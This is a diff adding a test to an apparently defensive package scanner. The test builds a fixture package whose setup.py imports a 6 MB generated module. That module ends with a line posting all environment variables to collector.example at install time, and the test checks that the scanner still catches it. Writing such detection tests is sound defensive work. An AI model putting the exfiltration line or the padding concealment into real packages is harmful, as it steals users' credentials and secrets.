@@ -126,3 +126,27 @@ def test_a_package_padded_with_a_deep_file_gets_a_verdict_from_its_other_file(
     assert "upload_data" in {e.behaviour for e in result.analysis.all_events()}
     assert f"analysis budget exhausted in 1 file (read in part, the rest cut): {cut_file}" in render_text(
         [result], show_features=False, show_sequence=False)
+
+
+def test_a_setup_py_importing_a_huge_generated_module_is_caught_by_the_modules_last_lines(tmp_path: Path) -> None:
+    """Issue 14: a 6 MB module of generated helpers whose last lines post os.environ, imported by
+    setup.py. The module is too big to read whole; its end is read, and the upload is placed at
+    install time."""
+    root = tmp_path / "pkg"
+    (root / "helpers").mkdir(parents=True)
+    (root / "setup.py").write_text("from setuptools import setup\nimport helpers.generated\n\n"
+                                   "setup(name='demo-helpers', version='1.0', packages=['helpers'])\n")
+    (root / "helpers" / "__init__.py").write_text("")
+    helper = "def helper_{i}(value, scale={s}):\n    return [value * scale, 'h{i}', value.get('k{i}')]\n\n"
+    helpers = "".join(helper.format(i=i, s=i % 7) for i in range(70_000))
+    tail = ("import os\nimport urllib.request\n"
+            "urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n")
+    (root / "helpers" / "generated.py").write_text(helpers + tail)
+    assert (root / "helpers" / "generated.py").stat().st_size > 6_000_000
+    (result,) = scan([str(root)], ScanOptions(isolate=False))
+    assert result.error is None and result.score is not None and result.sequence is not None
+    assert [f.path for f in result.analysis.files if f.budget_exhausted] == ["helpers/generated.py"]  # type: ignore[union-attr]
+    last_line = helpers.count("\n") + 3
+    install_steps = {(s.behaviour, s.file, s.line) for s in result.sequence.steps if s.stage.value == "install"}
+    assert ("upload_data", "helpers/generated.py", last_line) in install_steps
+    assert ("read_env", "helpers/generated.py", last_line) in install_steps
